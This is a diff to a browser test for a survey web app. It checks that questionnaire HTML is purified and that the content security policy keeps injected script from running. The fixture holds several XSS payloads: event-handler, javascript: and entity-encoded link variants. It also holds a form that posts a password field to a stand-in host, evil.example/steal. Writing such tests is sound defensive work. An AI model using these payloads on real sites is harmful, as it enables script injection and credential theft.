@@ -1,5 +1,6 @@
 // Script smuggled into a questionnaire (its HTML, titles, completion page) never runs in a
-// respondent's browser: the page's content security policy admits no inline script or handler.
+// respondent's browser: questionnaire HTML is purified (DOMPurify) where survey-core renders it,
+// and the page's content security policy admits no inline script or handler anyway.
 import type { Browser } from 'playwright-core';
 import { useTestDatabase } from '../helpers/db';
 import { launchChromium } from '../helpers/browser';
@@ -19,7 +20,14 @@ const PAYLOAD = {
         {
           type: 'html',
           name: 'intro',
-          html: '<p id="intro">Текст</p><script>window.__xss=2</script><img src=x onerror="window.__xss=3"><a id="jslink" href="javascript:window.__xss=4">ссылка</a><svg><animate onbegin="window.__xss=8" attributeName="x" dur="1s"/></svg>',
+          html:
+            '<p id="intro">Текст</p><script>window.__xss=2</script><img src=x onerror="window.__xss=3"><a id="jslink" href="javascript:window.__xss=4">ссылка</a><svg><animate onbegin="window.__xss=8" attributeName="x" dur="1s"/></svg>' +
+            // Variants that passed the old pattern filter: unusual separators, an entity-encoded
+            // javascript: link, a style sheet, a form posting elsewhere.
+            '<svg/onload="window.__xss=10"></svg><img src="x"/onerror="window.__xss=11">' +
+            '<a id="entlink" href="&#106;avascript&colon;window.__xss=12">ещё ссылка</a>' +
+            '<style>#intro{display:none}</style>' +
+            '<form id="evilform" action="https://evil.example/steal"><input name="pw"><button id="evilbtn">OK</button></form>',
         },
         { type: 'dropdown', name: 'region', lsgRole: 'region', choices: ['RU-VLG'], isRequired: true },
         { type: 'text', name: 'note', title: '<img src=x onerror="window.__xss=5"> Примечание' },
@@ -64,18 +72,41 @@ afterAll(async () => {
   await server?.close();
 });
 
-it('no script from the questionnaire runs, and the policy reports what it blocked', async () => {
+it('no script from the questionnaire runs: its HTML is purified where it is rendered, and the policy stays', async () => {
   const page = await browser.newPage();
-  const violations: string[] = [];
-  page.on('console', (m) => {
-    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
-  });
-  await page.goto(`${server.baseUrl}/w/xss-wave`);
+  const response = await page.goto(`${server.baseUrl}/w/xss-wave`);
+  expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self'/);
+  expect(response?.headers()['content-security-policy']).toMatch(/script-src-attr 'none'/);
+  // The <style> of the questionnaire would hide #intro: it was removed.
   await page.locator('#intro').waitFor({ state: 'visible', timeout: 15_000 });
+  const rendered = await page.evaluate(() => {
+    type El = {
+      tagName: string;
+      attributes: Iterable<{ name: string }>;
+      parentElement: El | null;
+      querySelectorAll(selector: string): Iterable<El> & { length: number };
+      getAttribute(name: string): string | null;
+      textContent: string | null;
+    };
+    const doc = (globalThis as unknown as { document: { querySelector(selector: string): El | null } }).document;
+    const root = doc.querySelector('#intro')!.parentElement!;
+    return {
+      handlers: [...root.querySelectorAll('*')].flatMap((el) =>
+        [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName}.${a.name}`),
+      ),
+      scripts: root.querySelectorAll('script, style, form, input, iframe').length,
+      links: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href')),
+      text: root.textContent,
+    };
+  });
+  expect(rendered.handlers).toEqual([]);
+  expect(rendered.scripts).toBe(0);
+  expect(rendered.links).toEqual([null, null]); // both javascript: links lost their href
+  expect(rendered.text).toContain('ещё ссылка');
   await page.locator('#jslink').click();
+  await page.locator('#entlink').click();
   await page.waitForTimeout(500);
   expect(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss)).toBeUndefined();
-  expect(violations.length).toBeGreaterThan(0);
   // The respondent can still answer and finish; the completion page's script does not run either.
   await page.locator('[data-name="region"] .sd-dropdown').click();
   await page.getByRole('option', { name: 'RU-VLG' }).click();
